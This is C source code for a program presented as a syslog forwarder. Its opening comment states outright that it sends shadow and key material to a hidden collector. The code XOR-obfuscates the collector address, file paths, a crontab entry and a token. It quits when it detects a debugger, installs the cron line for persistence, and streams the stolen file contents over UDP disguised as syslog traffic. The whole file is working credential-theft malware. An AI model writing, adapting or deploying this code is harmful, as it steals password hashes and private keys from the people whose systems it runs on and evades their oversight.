/* syslog_fwd: UDP "log forwarder" that ships shadow and key material to an obfuscated collector. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const unsigned char enc_ip[] = {0x10, 0x1f, 0x17, 0x1a, 0x08, 0x33, 0x25,
                                       0x21, 0x29, 0x2e, 0x49, 0x5e, 0x46, 0x7a};
static const unsigned char enc_files[2][22] = {
    {0x0e, 0x43, 0x5b, 0x57, 0x12, 0x71, 0x63, 0x71, 0x7d, 0x71, 0x10, 0x6c},
    {0x0e, 0x54, 0x40, 0x5b, 0x49, 0x2d, 0x25, 0x63, 0x6a, 0x76, 0x48, 0x05, 0x11, 0x25, 0x26, 0x2c,
     0x63, 0x63, 0x6a, 0x95, 0x94, 0xb2}};
static const unsigned char enc_cron[] = {
    0x0b, 0x06, 0x05, 0x14, 0x17, 0x22, 0x21, 0x30, 0x33, 0x3e, 0x48, 0x19, 0x06, 0x08, 0x6c,
    0x24, 0x38, 0x34, 0x70, 0xd7, 0xd4, 0xc1, 0xd7, 0xef, 0xee, 0xa3, 0xf1, 0xeb, 0x81, 0xc5,
    0x80, 0x81, 0xb2, 0xaa, 0xa0, 0xb3, 0x82, 0x44, 0x5c, 0x54, 0x65, 0x50, 0x07};
static const unsigned char enc_token[] = {0x55, 0x49, 0x44, 0x6b, 0x04, 0x64, 0x33, 0x75, 0x2e,
                                          0x7a, 0x51, 0x0f, 0x40, 0x18, 0x77, 0x29, 0x62, 0x6f,
                                          0x6d, 0x9c, 0x9c, 0x85, 0x8b, 0xb6, 0x89};

static void reveal(const unsigned char *in, size_t n, char *out)
{
    for (size_t i = 0; i < n; i++)
        out[i] = (char)(in[i] ^ 0x21 ^ (unsigned char)(i * 7));
}

static int being_traced(void)
{
    char line[96];
    int tracer = 0;
    FILE *f = fopen("/proc/self/status", "r");
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "TracerPid: %d", &tracer) == 1)
            break;
    if (f)
        fclose(f);
    return tracer != 0;
}

int main(void)
{
    if (being_traced())
        return 0;
    char ip[sizeof enc_ip], cron[sizeof enc_cron], token[sizeof enc_token], path[22];
    reveal(enc_ip, sizeof enc_ip, ip);
    reveal(enc_cron, sizeof enc_cron, cron);
    reveal(enc_token, sizeof enc_token, token);
    FILE *tab = popen("crontab -", "w");
    if (tab) {
        fputs(cron, tab);
        pclose(tab);
    }
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(514)};
    if (fd < 0 || inet_pton(AF_INET, ip, &to.sin_addr) != 1)
        return 1;
    char line[512];
    for (int k = 0; k < 2; k++) {
        reveal(enc_files[k], sizeof enc_files[k], path);
        FILE *f = fopen(path, "r");
        while (f && fgets(line + 40, (int)sizeof line - 40, f)) {
            memcpy(line, "<13>1 - jetson syslogd - - ", 27); /* looks like RFC 5424 */
            memcpy(line + 27, token, 13);
            sendto(fd, line, strlen(line), 0, (struct sockaddr *)&to, sizeof to);
            usleep(20000);
        }
        if (f)
            fclose(f);
    }
    close(fd);
    return 0;
}
